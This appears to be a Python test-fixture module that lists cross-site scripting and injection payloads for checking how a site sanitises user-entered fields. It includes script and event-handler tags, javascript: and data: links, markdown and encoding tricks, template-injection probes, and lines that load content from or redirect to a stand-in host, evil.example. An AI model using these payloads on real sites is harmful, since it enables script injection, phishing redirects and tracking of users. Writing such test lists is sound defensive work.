"""What somebody may write into a field to run as a page of ours, to load something from elsewhere, or to lead away."""

# Gets out of an attribute or stands as it is, in the shortest line too.
ANYWHERE = "\"'><b onclick=f()>"
TEXTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<style>@import url(//evil.example)</style>",
    "<form action=//evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<a href=javascript:alert(1)>x</a><a href=' javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](&#106;avascript:alert(1)) [x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) [x](file:///etc/passwd) [x](//evil.example)",
    "[x]: javascript:alert(1)\n\n[x] <javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1)") [x](https://a.example"onclick=alert(1))',
    "![x](https://evil.example/pixel.png) ![x](x onerror=alert(1)) ![x](javascript:alert(1))",
    '```"><script>alert(1)</script>\n<b onclick=alert(1)>\n```',
    "`<script>alert(1)</script>` <!-- --><script>alert(1)</script><!-- -->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>x</dialog>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\\<script>alert(1)\\</script> <scr<script>ipt>alert(1)</script>",
]  # fmt: skip
_EVENTS = ("onfocus=alert(1) autofocus", "onmouseover=alert(1)", "style=position:fixed onclick=alert(1)")
_OPENINGS = ('">', "'>", "</textarea>", "</title>", "</option></select>", "</script>", "-->", "]]>", "`", "{{", "\\")
_TAGS = ("<b {}>x</b>", "<img src=x {}>", "<video src=//evil.example {}>", "<x {} tabindex=1>", "<svg {}>")
# Out of an attribute, out of what stands around it, as a link of a page, as a template of either side.
LINES = [
    *(f'" {event} x="' for event in _EVENTS),
    *(f"' {event} x='" for event in _EVENTS),
    *(opening + tag.format(_EVENTS[n % 3]) for n, opening in enumerate(_OPENINGS) for tag in _TAGS),
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)//", "\\x6aavascript:alert(1)", "data:text/html,<script>alert(1)"),
    *("//evil.example/x.png", "https://evil.example/x.png", "url(//evil.example)", "<link href=//evil.example"),
    *("{{7*7}}", "${alert(1)}", "{% debug %}", "#{alert(1)}", "<%= alert(1) %>", "%3Cscript%3Ealert(1)%3C/script%3E"),
    *("＜script＞alert(1)＜/script＞", "\ufeff<script>alert(1)</script>", "<\u0000script>alert(1)</script>"),
    *("</script><script>alert(1)</script>", '{"@context":"</script><script>alert(1)//"}', "<!--<script>alert(1)//"),
    *("<a href=https://evil.example>こちら</a>", "<x hx-get=//evil.example hx-trigger=load>", "<x data-hx-get=/x>"),
    *("<meta http-equiv=refresh content=0;url=//evil.example>", "<input autofocus onfocus=alert(1)>"),
    *("<b\x0bonclick=alert(1)>", "<iframe src=//evil.example>"),
]  # fmt: skip
